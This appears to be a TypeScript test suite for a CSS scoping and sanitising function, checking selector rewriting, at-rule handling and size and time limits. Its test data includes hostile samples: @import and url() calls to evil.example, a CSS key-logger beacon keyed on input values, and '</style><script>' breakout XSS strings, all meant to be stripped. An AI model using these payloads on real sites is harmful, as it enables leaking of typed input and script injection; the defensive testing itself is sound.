import { cpuTime } from '../fixtures/cpu-time'
import { scopeCss } from './scope-css'

const scoped = (css: string) => scopeCss(css, '.t').replaceAll(':where(.t)', '§')

test.each([
  ['a{color:red}', '§ a{color:red;}'],
  ['a, .b > c{color:red}', '§ a,§ .b > c{color:red;}'],
  ['*{margin:0}', '§ *{margin:0;}'],
  ['::selection{color:red}', '§ ::selection{color:red;}'],
  ['html{color:red}', '§{color:red;}'],
  ['body{color:red}', '§{color:red;}'],
  [':root{--a:1px}', '§{--a:1px;}'],
  ['html body .x{color:red}', '§ .x{color:red;}'],
  ['body > .x{color:red}', '§ .x{color:red;}'],
  ['body.home .x{color:red}', '§ .home .x{color:red;}'],
  ['html.a body.b{color:red}', '§ .a.b{color:red;}'],
  ['body:hover{color:red}', '§:hover{color:red;}'],
  ['body::before{color:red}', '§::before{color:red;}'],
  ['.x:not(body){color:red}', '§ .x:not(§){color:red;}'],
  ['#cart{color:red}', '§ #user-content-cart{color:red;}'],
  ['.sm\\:p-1:hover{color:red}', '§ .sm\\:p-1:hover{color:red;}'],
  ['@media (max-width: 9px){a{color:red}}', '@media (max-width: 9px){§ a{color:red;}}'],
  ['@media (400px <= width){body{color:red}}', '@media (400px <= width){§{color:red;}}'],
  ['@supports (display:grid){a{color:red}}', '@supports (display:grid){§ a{color:red;}}'],
  ['@layer base,x;@layer base{a{color:red}}', '@layer template-base,template-x;@layer template-base{§ a{color:red;}}'],
  ['@keyframes k{from{top:0}50%{top:1px}}', '@layer template-names{@keyframes k{from{top:0;}50%{top:1px;}}}'],
  [
    '.a{color:red;&:hover{top:0}.b &{top:1px}> i{top:2px}}',
    '§ .a{color:red;}§ .a:hover{top:0;}§ .b .a{top:1px;}§ .a > i{top:2px;}',
  ],
  ['.a{@media print{color:red}}', '@media print{§ .a{color:red;}}'],
  [
    '@font-face{font-family:x;src:url(/f.woff2);size-adjust:900%}',
    '@layer template-names{@font-face{font-family:x;src:url("/f.woff2");}}',
  ],
])('%s', (css, expected) => {
  expect(scoped(css)).toBe(expected)
})

test.each([
  '@import "https://evil.example/x.css";',
  '@charset "utf-8";',
  '@namespace svg url(http://www.w3.org/2000/svg);',
  '@font-face{font-family:x;src:url(https://evil.example/f.woff2)}',
  '@font-face{font-family:x;src:local("Wingdings")}',
  'a{view-transition-name:x;overlay:auto;scroll-initial-target:nearest}',
  '@property --x{syntax:"*";inherits:true;initial-value:url(https://evil.example)}',
  '@page{margin:0}',
  'body ~ footer{color:red}',
  'html + *{color:red}',
  '+ footer{color:red}',
  '~ *{color:red}',
  'body{& ~ footer{color:red}}',
  'body{+ footer{color:red}}',
  ':host{color:red}',
  'a >>> b{color:red}',
  '.gjs-selected{color:red}',
  '*[data-gjs-type]{color:red}',
  'a[x="\n"]{color:red}',
  '</style><script>alert(1)</script>{color:red}',
])('%j is removed completely', (css) => {
  expect(scoped(css)).toBe('')
})

test('a key logger has no address to report to', () => {
  const css = scoped('input[value^="a"]{background:url(https://evil.example/a)}@import url(//evil.example);')
  expect(css).toBe('§ input[value^="a"]{background:none;}')
})

test('the invalid parts of CSS are dropped, and nothing escapes the style element', () => {
  expect(scoped('a{color:red;"}b{top:0}')).not.toContain('</')
  expect(scoped('a{content:"</style><img src=x onerror=alert(1)>"} b{top:0}')).toBe('§ b{top:0;}')
  expect(scoped('a{color:red')).toBe('§ a{color:red;}')
})

test('nested lists cannot grow without limit', () => {
  const list = Array.from({ length: 20 }, (_, at) => `.c${at}`).join(',')
  const deep = `${`${list}{`.repeat(6)}top:0${'}'.repeat(6)}`
  expect(scoped(deep).length).toBeLessThan(200_000)
})

test('a sheet that would become too large is rejected in advance', () => {
  const list = Array.from({ length: 900 }, (_, at) => `.a${at}`).join(',')
  expect(() => scoped(`${list}{${'&b{x:y}'.repeat(20_000)}}`)).toThrow('larger than 4 MB')
})

test('a large sheet is scoped in linear time', () => {
  const css = (rules: number) =>
    Array.from({ length: rules }, (_, at) => `.a${at} > b, .c${at}:not(.d){color:red;margin:0 auto}`).join('')
  const small = cpuTime(() => scopeCss(css(1000), '.t'))
  expect(cpuTime(() => scopeCss(css(4000), '.t'))).toBeLessThan(12 * Math.max(small, 50))
})
